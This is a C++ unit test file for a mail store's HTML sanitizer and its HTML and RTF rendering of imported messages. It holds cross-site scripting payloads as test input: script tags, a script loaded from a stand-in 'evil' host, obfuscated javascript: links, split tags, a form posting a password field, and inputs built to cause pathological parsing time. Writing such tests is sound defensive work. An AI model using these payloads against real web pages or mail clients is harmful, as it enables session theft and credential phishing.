#include "store/render/render.h"

#include <algorithm>
#include <ctime>

#include <gtest/gtest.h>

#include "store/mapi/prop_tags.h"
#include "store/mime/charsets.h"
#include "store/mime/html_text.h"
#include "store/mime/mime_import.h"
#include "hostile_html.h"
#include "rtf_html_reader.h"

using render::SanitizeHtml;

namespace {

std::string Lower(std::string s) {
    std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
    return s;
}

mapi::Message Import(const std::string& text) { return mime::ImportMessage(text.data(), text.size()); }

bool BracesBalance(const std::string& rtf) {
    int depth = 0;
    for (std::size_t i = 0; i < rtf.size(); ++i) {
        if (rtf[i] == '\\') { ++i; continue; }
        if (rtf[i] == '{') ++depth;
        if (rtf[i] == '}' && --depth < 0) return false;
    }
    return depth == 0;
}

const char kHostile[] =
    "<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil\"><base href=\"http://evil/\">"
    "<link rel=stylesheet href=\"http://evil/x.css\"><script>steal()</script>"
    "<style>p { color: red } body { background: url(javascript:alert(1)) }</style></head>"
    "<body onload=\"steal()\"><p ONCLICK = 'x()' style=\"color: blue\">Hello <b>world</b></p>"
    "<a href=\"javascript:alert(1)\">a</a><a href=\" jav&#x61;script:alert(2)\">b</a>"
    "<a href=\"java\tscript:alert(3)\">c</a><a href=\"vbscript:msgbox\">d</a><a href=\"data:text/html,<script>x</script>\">e</a>"
    "<a href=\"https://example.com/\">safe link</a><img src=\"x\" onerror=\"steal()\">"
    "<form action=\"http://evil/\"><input name=p type=password><button>Go</button>kept text</form>"
    "<iframe src=\"http://evil/\">frame text</iframe><object data=\"x.swf\"><param name=a value=b>obj</object>"
    "<embed src=\"x.swf\"><svg><script>alert(4)</script></svg><!--[if IE]><script>alert(5)</script><![endif]-->"
    "<div style=\"width: expression(alert(6))\">styled</div><SCRIPT SRC=//evil/x.js></SCRIPT>"
    "</body></html>";

}  // namespace

TEST(HtmlSanitizer, RemovesEveryKindOfActiveContent) {
    const std::string out = Lower(SanitizeHtml(kHostile));
    for (const char* gone : {"<script", "steal", "onload", "onclick", "onerror", "javascript", "vbscript", "data:text/html",
                             "<form", "<input", "<button", "<iframe", "frame text", "<object", "<embed", "<param", "<svg",
                             "alert", "<meta", "<base", "<link", "expression", "evil"}) {
        EXPECT_EQ(out.find(gone), std::string::npos) << gone << " left in: " << out;
    }
}

TEST(HtmlSanitizer, SplitTagsDoNotReassembleIntoScript) {
    const std::string out = Lower(SanitizeHtml("<scr<script>ipt>alert(7)</script><<script>script>alert(8)<</script>/script>"));
    EXPECT_EQ(out.find("<script"), std::string::npos) << out;
    EXPECT_EQ(Lower(SanitizeHtml(out)).find("<script"), std::string::npos) << out;
}

TEST(HtmlSanitizer, KeepsTheMessageItself) {
    const std::string out = SanitizeHtml(kHostile);
    for (const char* kept : {"<p style=\"color: blue\">Hello <b>world</b></p>", "<a href=\"https://example.com/\">safe link</a>",
                             "kept text", "<div>styled</div>", "<img>"}) {
        EXPECT_NE(out.find(kept), std::string::npos) << kept << " missing in: " << out;
    }
    EXPECT_EQ(SanitizeHtml("a < b && c > d"), "a &lt; b && c > d");
}

// Decided on what the browser reads: references and CSS escapes decoded first.
TEST(HtmlSanitizer, NothingFetchesFromElsewhereAndNoLinkRunsScript) {
    for (const char* sample : hostile::kRemoteLoads) {
        const std::string out = Lower(SanitizeHtml(hostile::WithHost(sample, "remote.test")));
        EXPECT_EQ(out.find("remote.test"), std::string::npos) << sample << " gave " << out;
    }
    for (const char* sample : hostile::kScriptLinks) {
        const std::string out = Lower(SanitizeHtml(sample));
        EXPECT_EQ(out.find("href"), std::string::npos) << sample << " gave " << out;
        EXPECT_EQ(out.find("alert"), std::string::npos) << sample << " gave " << out;
    }
    // What stays: the links, the styles and the images the message brings along itself.
    const std::string kept = SanitizeHtml(
        "<a href=\"https://example.com/?a=1&amp;b=2&c\">x</a><a href=\"mailto:a@example.com\">m</a><a href=\"#top\">t</a>"
        "<p style=\"color:red; background:url(data:image/png;base64,AAAA)\">p</p><img src=\"data:image/gif;base64,R0lG\" alt=\"&eacute;\">"
        "<style>@media print{p{color:blue}} td{font:10pt Arial}</style><table background=\"data:image/png;base64,BBBB\"></table>");
    EXPECT_EQ(kept,
              "<a href=\"https://example.com/?a=1&amp;b=2&amp;c\">x</a><a href=\"mailto:a@example.com\">m</a><a href=\"#top\">t</a>"
              "<p style=\"color:red; background:url(data:image/png;base64,AAAA)\">p</p><img src=\"data:image/gif;base64,R0lG\" "
              "alt=\"&eacute;\"><style>@media print{p{color:blue}} td{font:10pt Arial}</style>"
              "<table background=\"data:image/png;base64,BBBB\"></table>");
    // A head that is never closed, or one astray in the body, hides none of the text after it.
    EXPECT_EQ(SanitizeHtml("<head><title>T</title><meta http-equiv=refresh content=0><p>text</p>"), "<p>text</p>");
    // A declaration that fetches goes alone; its neighbours stay.
    EXPECT_EQ(SanitizeHtml("<p style=\"color:red;background:url(http://x/);font-weight:bold\">p</p>"),
              "<p style=\"color:red;font-weight:bold\">p</p>");
    // Escapes that decode into a backslash never decode a second time in the browser.
    const std::string twice = SanitizeHtml("<style>p{background:\\5c 75rl(http://remote.test/)}</style>");
    EXPECT_EQ(twice.find('\\'), std::string::npos) << twice;
}

TEST(HtmlRendering, StandsAloneWithHeaderBlockAndInlineImages) {
    const std::string eml =
        "From: \"Ann <boss>\" <ann@example.com>\r\nTo: Bob <bob@example.com>\r\nCc: cy@example.com\r\n"
        "Subject: Pic & <stuff>\r\nDate: Sat, 01 Jan 2000 00:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n"
        "--m\r\nContent-Type: multipart/related; boundary=r\r\n\r\n"
        "--r\r\nContent-Type: text/html; charset=windows-1252\r\n\r\n"
        "<html><head><style>b{color:red}</style></head><body onload=x()><b>Gr\xFC\xDF</b><img src=\"cid:pic1\"><script>x()</script></body></html>\r\n"
        "--r\r\nContent-Type: image/png\r\nContent-ID: <pic1>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--r--\r\n"
        "--m\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=report.pdf\r\n\r\n%PDF\r\n--m--\r\n";
    const std::string html = render::RenderHtml(Import(eml));
    EXPECT_NE(html.find("<meta charset=\"utf-8\">"), std::string::npos);
    EXPECT_NE(html.find("Content-Security-Policy"), std::string::npos);
    EXPECT_NE(html.find("<td>Ann &lt;boss&gt; &lt;ann@example.com&gt;</td>"), std::string::npos);
    EXPECT_NE(html.find("<td>Sat, 01 Jan 2000 00:00:00 UTC</td>"), std::string::npos);
    EXPECT_NE(html.find("<td>Bob &lt;bob@example.com&gt;</td>"), std::string::npos);
    EXPECT_NE(html.find("<td>cy@example.com</td>"), std::string::npos);
    EXPECT_NE(html.find("<td>Pic &amp; &lt;stuff&gt;</td>"), std::string::npos);
    EXPECT_NE(html.find("<td>report.pdf</td>"), std::string::npos);  // the inline image is not listed
    EXPECT_NE(html.find("<b>Grüß</b>"), std::string::npos);          // windows-1252 body now UTF-8
    EXPECT_NE(html.find("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"), std::string::npos);
    EXPECT_NE(html.find("<style>b{color:red}</style>"), std::string::npos);
    EXPECT_EQ(Lower(html).find("<script"), std::string::npos);
    EXPECT_EQ(html.find("onload"), std::string::npos);
}

// A clear-signed message holds one attachment, the signed entity; its page shows what is inside.
TEST(HtmlRendering, SignedMailShowsTheSignedContentsParts) {
    const std::string mail =
        "Subject: s\r\nBcc: Hidden <h@example.com>\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=S\r\n\r\n"
        "--S\r\nContent-Type: multipart/related; boundary=R\r\n\r\n--R\r\nContent-Type: text/html\r\n\r\n<p>Hi<img src=\"cid:i\"></p>\r\n"
        "--R\r\nContent-Type: image/png\r\nContent-ID: <i>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n"
        "--R\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Disposition: attachment\r\n\r\n%PDF\r\n--R--\r\n"
        "--S\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n\r\nMIIB\r\n--S--\r\n";
    const std::string html = render::RenderHtml(Import(mail));
    EXPECT_NE(html.find("<td>a.pdf; smime.p7s</td>"), std::string::npos) << html;
    EXPECT_NE(html.find("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"), std::string::npos) << html;
    EXPECT_NE(html.find("Bcc:</th><td>Hidden &lt;h@example.com&gt;</td>"), std::string::npos) << html;
    EXPECT_EQ(html.find("smime.p7m"), std::string::npos) << html;
}

TEST(HtmlRendering, TextBodiesAreEscaped) {
    const std::string html = render::RenderHtml(Import("Subject: t\r\n\r\n<script>alert(1)</script> & more\r\n"));
    EXPECT_NE(html.find("&lt;script&gt;alert(1)&lt;/script&gt; &amp; more"), std::string::npos);
    EXPECT_EQ(html.find("<script>"), std::string::npos);
}

TEST(RtfRendering, UnicodeAndSpecialCharactersAreEscaped) {
    const std::string rtf = render::RenderRtf(Import(
        "From: a@example.com\r\nSubject: {braces} \\ back\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Gr\xC3\xBC\xC3\x9F\x65 \xF0\x9F\x98\x80\r\nline two\ttab\r\n"));
    EXPECT_EQ(rtf.rfind("{\\rtf1", 0), 0u);
    EXPECT_TRUE(BracesBalance(rtf));
    EXPECT_TRUE(std::all_of(rtf.begin(), rtf.end(), [](unsigned char c) { return c < 0x80; }));
    EXPECT_NE(rtf.find("\\{braces\\} \\\\ back"), std::string::npos);
    EXPECT_NE(rtf.find("Gr\\u252?\\u223?e"), std::string::npos);
    EXPECT_NE(rtf.find("\\u-10179?\\u-8704?"), std::string::npos);  // U+1F600 as a surrogate pair
    EXPECT_NE(rtf.find("\\par\nline two\\tab tab"), std::string::npos);
    EXPECT_NE(rtf.find("{\\b From:}\\tab a@example.com\\par"), std::string::npos);
}

TEST(RtfRendering, HtmlOnlyMessagesGiveTheirText) {
    const std::string rtf = render::RenderRtf(Import("Content-Type: text/html\r\n\r\n<p>First</p><script>no()</script><p>Second &amp; last</p>"));
    EXPECT_NE(rtf.find("First\\par\nSecond & last"), std::string::npos);
    EXPECT_EQ(rtf.find("no()"), std::string::npos);
    // What the head holds is no text of the message, in the rendering or in the wrapped HTML.
    const std::string head = "<html><head><title>Title</title><style>p{}</style>\r\n<body><p>Shown</p></body></html>";
    const std::string titled = render::RenderRtf(Import("Subject: s\r\nContent-Type: text/html\r\n\r\n" + head));
    EXPECT_EQ(titled.find("Title"), std::string::npos) << titled;
    EXPECT_NE(titled.find("Shown"), std::string::npos) << titled;
    const std::string wrapped = render::EncapsulateHtmlInRtf(head);
    EXPECT_NE(wrapped.find("{\\*\\htmltag64 <head><title>Title</title><style>p\\{\\}</style>\\par }"), std::string::npos) << wrapped;
}

TEST(HtmlInRtf, WrapsTheHtmlSoBothKindsOfReaderGetTheirPart) {
    const std::string rtf = render::EncapsulateHtmlInRtf("<html><head><style>p{}</style></head><body><p>Caf\xC3\xA9 {x} &amp; y</p>\r\n</body></html>");
    EXPECT_EQ(rtf.rfind("{\\rtf1\\ansi\\ansicpg1252\\fromhtml1", 0), 0u);
    EXPECT_TRUE(BracesBalance(rtf));
    EXPECT_TRUE(std::all_of(rtf.begin(), rtf.end(), [](unsigned char c) { return c < 0x80; }));
    EXPECT_NE(rtf.find("{\\*\\htmltag64 <head><style>p\\{\\}</style></head>}"), std::string::npos);
    EXPECT_NE(rtf.find("Caf{\\*\\htmltag64 &#233;}\\htmlrtf \\u233?\\htmlrtf0 "), std::string::npos);
    EXPECT_NE(rtf.find(" \\{x\\} {\\*\\htmltag64 &amp;}\\htmlrtf &\\htmlrtf0 "), std::string::npos);
}

TEST(HtmlHandling, HostileShapesTakeLinearTime) {
    // Each of these made an earlier search run to the end of the text once per character.
    auto repeat = [](const std::string& unit, std::size_t bytes) {
        std::string out;
        while (out.size() < bytes) out += unit;
        return out;
    };
    const std::vector<std::string> inputs = {repeat("&", 1 << 20), repeat("<a b=\"", 1 << 20), repeat("<a ", 1 << 20),
                                             "<script>" + repeat("</a b='", 1 << 20), repeat("<p>&#", 1 << 20),
                                             repeat("<style>x", 1 << 20), repeat("</", 1 << 20)};
    // A quadratic pass over 1 MiB costs hours; a linear one well under a second. The bound is
    // the processor time this process spent, far above the linear cost even under the
    // sanitizers, so that a loaded machine cannot make it fail while a quadratic pass still does.
    for (const std::string& html : inputs) {
        const std::clock_t start = std::clock();
        const std::string safe = SanitizeHtml(html);
        (void)mime::HtmlToText(html);
        (void)render::EncapsulateHtmlInRtf(html);
        const double seconds = static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC;
        EXPECT_LT(seconds, 60.0) << html.substr(0, 12);
        EXPECT_EQ(Lower(safe).find("<script"), std::string::npos);
    }
}

TEST(HtmlInRtf, AReaderOfTheWrappingGetsTheHtmlBack) {
    const std::string html =
        "<!DOCTYPE html>\n<html><head><title>T {1}</title><style>p { color: red }</style></head>\n"
        "<body bgcolor=\"#ffffff\"><p class='a'>Caf\xC3\xA9 &amp; cr\xC3\xA8me \\ {braces}</p>\n"
        "<pre>line 1\nline 2</pre><table><tr><td>a</td><td>b</td></tr></table>"
        "<a href=\"https://example.com/?q=1&amp;r=2\">link</a><!-- note --></body></html>";
    // What comes back: the same HTML, with line ends as CRLF and non-ASCII as references.
    std::string expected;
    for (std::size_t i = 0; i < html.size();) {
        const unsigned char c = static_cast<unsigned char>(html[i]);
        if (c == '\n') {
            expected += "\r\n";
            ++i;
        } else if (c >= 0x80) {  // the two-byte letters of this text
            const char32_t cp = ((c & 0x1F) << 6) | (static_cast<unsigned char>(html[i + 1]) & 0x3F);
            expected += "&#" + std::to_string(static_cast<std::uint32_t>(cp)) + ";";
            i += 2;
        } else {
            expected.push_back(html[i++]);
        }
    }
    EXPECT_EQ(rtftest::HtmlFromRtf(render::EncapsulateHtmlInRtf(html)), expected);
}

TEST(HtmlInRtf, AByteOrderMarkNeverPrecedesTheRebuiltDoctype) {
    // A BOM before <!DOCTYPE> in the rebuilt HTML would put browsers into quirks mode.
    const std::string html = "<!DOCTYPE html><html><body><p>\xD0\x9F\xD1\x80\xD0\xB8</p></body></html>";
    for (const std::string& input : {"\xEF\xBB\xBF" + html, html}) {
        const std::string rtf = render::EncapsulateHtmlInRtf(input);
        EXPECT_EQ(rtf.find("65279"), std::string::npos);
        EXPECT_EQ(rtftest::HtmlFromRtf(rtf).rfind("<!DOCTYPE html>", 0), 0u);
    }
    // Through the import: a UTF-8 HTML part that starts with a BOM.
    const std::string mail = "Content-Type: text/html; charset=utf-8\r\n\r\n\xEF\xBB\xBF" + html;
    mapi::Message message = mime::ImportMessage(mail.data(), mail.size());
    EXPECT_EQ(rtftest::HtmlFromRtf(render::EncapsulateHtmlInRtf(mime::HtmlBodyUtf8(message))).rfind("<!DOCTYPE html>", 0), 0u);
}
